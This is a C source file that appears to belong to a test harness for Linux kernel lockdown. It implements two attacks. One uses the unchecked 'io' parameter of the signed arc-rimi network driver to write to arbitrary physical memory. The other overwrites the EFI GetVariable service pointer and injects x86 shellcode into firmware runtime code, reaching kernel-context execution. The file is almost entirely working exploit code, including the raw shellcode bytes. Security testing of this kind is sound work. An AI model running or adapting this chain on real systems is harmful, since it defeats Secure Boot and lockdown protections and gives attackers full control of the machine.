/*
 * Code in the kernel by a module that the kernel's own key signed. Parameter `io` of arc-rimi is a physical address, and
 * is not marked HWPARAM (drivers/net/arcnet/arc-rimi.c), so that hook locked_down is not asked. The driver's probe
 * writes the bytes D1 D1 there, and a packet that is sent is copied to the 512 bytes at io + 0x800. The machine has to be
 * started by UEFI.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "attack.h"

/* What the probe writes (TESTvalue of linux/arcdevice.h), twice. */
#define PROBED 0xd1d1
/* Where the driver copies a packet's bytes to, from its address on: the end of the first buffer. */
#define COPIED 0x900

static int load_module(const char *name, const char *parameters)
{
	char path[64];
	snprintf(path, sizeof path, "/lib/%s.ko", name);
	int file = open(path, O_RDONLY);
	if (file < 0)
		skipped("needs the modules of arcnet");
	int failed = syscall(SYS_finit_module, file, parameters, 0);
	if (failed && errno == EEXIST)
		failed = 0;
	int error = errno;
	close(file);
	errno = error;
	return failed;
}

/* Loads the driver for an address. */
static void load_driver(uint64_t address)
{
	char parameters[64];
	snprintf(parameters, sizeof parameters, "io=%d node=1 irq=5", (int)address);
	if (load_module("arcnet", "") || load_module("arc-rawmode", "") || load_module("arc-rimi", parameters))
		held("finit_module of arc-rimi");
}

static void unload_driver(void)
{
	syscall(SYS_delete_module, "arc_rimi", 0);
}

/* Reads physical memory within one page by /dev/mem: read(2) gives EFAULT for memory of the firmware. */
static bool read_physical(uint64_t address, void *bytes, size_t size)
{
	mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1));
	int memory = open("/tmp/mem", O_RDONLY);
	char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, memory, address & ~4095ULL);
	close(memory);
	if (page == MAP_FAILED)
		return false;
	memcpy(bytes, page + (address & 4095), size);
	munmap(page, 4096);
	return true;
}

/* A number of /sys/firmware/efi, in hexadecimal. */
static uint64_t firmware_number(const char *format, int region)
{
	char path[96], text[32] = {0};
	snprintf(path, sizeof path, format, region);
	int file = open(path, O_RDONLY);
	ssize_t size = read(file, text, sizeof text - 1);
	close(file);
	return size > 0 ? strtoull(text, NULL, 16) : 0;
}

/* A region of memory that the firmware keeps while the system runs. */
struct region {
	uint64_t physical, virtual, size;
};
enum region_type { RUNTIME_CODE = 5, RUNTIME_DATA = 6 };

/* The first region of a type that has `address`, virtual or physical; 0: any. Skips the attack if there is none. */
static struct region region_of(enum region_type type, uint64_t address)
{
#define MAP "/sys/firmware/efi/runtime-map/%d/"
	for (int i = 0; i < 64; i++) {
		struct region region = {firmware_number(MAP "phys_addr", i), firmware_number(MAP "virt_addr", i),
					firmware_number(MAP "num_pages", i) * 4096};
		if (region.size >= 8192 && firmware_number(MAP "type", i) == type &&
		    (!address || address - region.virtual < region.size || address - region.physical < region.size))
			return region;
	}
	skipped("needs a machine with UEFI");
}

/* The last page of the firmware's data; nothing there is in use. */
static void module_parameter(void)
{
	struct region data = region_of(RUNTIME_DATA, 0);
	uint64_t target = data.physical + data.size - 4096;
	uint16_t before = 0, after = 0;
	read_physical(target, &before, sizeof before);
	load_driver(target);
	unload_driver();
	if (!read_physical(target, &after, sizeof after) || after != PROBED || before == PROBED)
		held("the probe wrote nothing");
	broken("a parameter of a signed module wrote physical memory at %#llx", (unsigned long long)target);
}

static uint64_t symbol(const char *wanted)
{
	FILE *symbols = fopen("/proc/kallsyms", "r");
	char line[256], name[128];
	uint64_t address;
	while (symbols && fgets(line, sizeof line, symbols))
		if (sscanf(line, "%lx %*c %127s", &address, name) == 2 && strcmp(name, wanted) == 0)
			return address;
	return 0;
}

/* Sends a packet on arc0, whose bytes the driver copies. The driver cannot be unloaded afterwards: it would crash. */
static void write_by_packet(const void *bytes, size_t size)
{
	char packet[300] = {1, 2};
	struct ifreq request = {.ifr_name = "arc0"};
	int device = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (ioctl(device, SIOCGIFINDEX, &request))
		held("the driver has no device");
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = request.ifr_ifindex, .sll_protocol = htons(ETH_P_ALL)};
	ioctl(device, SIOCGIFFLAGS, &request);
	request.ifr_flags |= IFF_UP;
	ioctl(device, SIOCSIFFLAGS, &request);
	sleep(3);
	memcpy(packet + 4, bytes, size);
	if (sendto(device, packet, 4 + size, 0, (void *)&to, sizeof to) < 0)
		held("sendto");
	sleep(2);
}

#define VARIABLES "/tmp/efi"

/* The kernel lists the variables here, by a function of the firmware of which a part is overwritten later. */
static void mount_variables(void)
{
	load_module("efivarfs", "");
	mkdir(VARIABLES, 0700);
	if (mount("efivarfs", VARIABLES, "efivarfs", 0, NULL) && errno != EBUSY)
		held("mount of efivarfs");
}

/* Has the kernel read variables of the firmware (GetVariable). */
static void read_variables(void)
{
	DIR *variables = opendir(VARIABLES);
	struct dirent *variable;
	for (int count = 0; variables && count < 3 && (variable = readdir(variables));) {
		char path[300], byte;
		if (variable->d_name[0] == '.')
			continue;
		snprintf(path, sizeof path, VARIABLES "/%s", variable->d_name);
		int file = open(path, O_RDONLY);
		count += read(file, &byte, 1) >= 0;
		close(file);
	}
}

/* EFI_RUNTIME_SERVICES.GetVariable. */
#define GET_VARIABLE 72

/*
 * Code in the firmware's, which writes to memory of this process at its address in the kernel: page_offset_base and its
 * physical address. The last byte of the pointer to GetVariable becomes D1, which is in the same page and so executable;
 * the other byte that the probe writes is of the pointer before, which nobody uses. The code is put there.
 */
static void efi_runtime(void)
{
	uint64_t services = firmware_number("/sys/firmware/efi/runtime", 0), base = symbol("page_offset_base");
	struct region code = region_of(RUNTIME_CODE, 0), data = region_of(RUNTIME_DATA, services);
	if (services - data.virtual < data.size)
		services = services - data.virtual + data.physical;
	/* without /dev/mem root would have to know the firmware; here any address serves, since nothing is written */
	uint64_t original = code.virtual;
	read_physical(services + GET_VARIABLE, &original, sizeof original);
	uint64_t target = code.physical + (((original & ~0xffULL) | (PROBED & 0xff)) - code.virtual);
	volatile uint32_t *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	*page = 1;
	uint64_t physical = physical_address((void *)page);
	unsigned char instructions[64] = "\x48\xb8________"	/* mov rax, base */
					 "\x48\x8b\x00"		/* mov rax, [rax] */
					 "\x48\xb9________"	/* mov rcx, physical */
					 "\x48\x01\xc8"		/* add rax, rcx */
					 "\xc7\x00\xe1\x5c\0\0" /* mov dword [rax], UNLISTED_RESULT */
					 "\x31\xc0\xc3";	/* xor eax, eax; ret */
	memcpy(instructions + 2, &base, sizeof base);
	memcpy(instructions + 15, &physical, sizeof physical);
	mount_variables();
	load_driver(services + GET_VARIABLE - 1);
	unload_driver();
	load_driver(target + 35 - COPIED);
	write_by_packet(instructions, 35);
	read_variables();
	if (*page != UNLISTED_RESULT) {
		errno = EPERM;
		held("the firmware did not run it");
	}
	broken("code in the kernel, by a signed module and the firmware");
}

const struct attack efi_attacks[] = {
    {"module-writes-memory", module_parameter},
    {"efi-runtime", efi_runtime},
    {0},
};
